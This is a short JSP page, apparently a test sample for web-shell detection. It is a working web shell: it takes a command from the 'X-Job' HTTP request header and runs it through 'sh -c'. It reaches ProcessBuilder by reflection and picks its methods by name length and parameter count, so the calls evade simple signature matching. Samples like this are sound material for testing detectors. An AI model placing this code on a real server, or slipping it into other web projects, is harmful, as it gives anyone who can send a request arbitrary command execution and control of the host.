<%@ page import="java.lang.reflect.Method,java.util.Arrays" %>
<%
    // test sample: ProcessBuilder named by Class.forName, its methods scanned by name length and
    // parameter count: command(List) first, then start()
    Class<?> k = Class.forName("java.lang.ProcessBuilder");
    Object pb = k.getConstructor(String[].class).newInstance((Object) new String[0]);
    String c = request.getHeader("X-Job");
    for (Method m : Class.forName("java.lang.ProcessBuilder").getDeclaredMethods()) {
        Class<?>[] t = m.getParameterTypes();
        if (m.getName().length() == 7 && t.length == 1 && t[0] == java.util.List.class) {
            m.invoke(pb, Arrays.asList("sh", "-c", c));
        }
    }
    for (Method m : k.getMethods()) {
        if (m.getName().length() == 5 && m.getParameterTypes().length == 0 && m.getReturnType() == Process.class) {
            m.invoke(pb);
        }
    }
%>
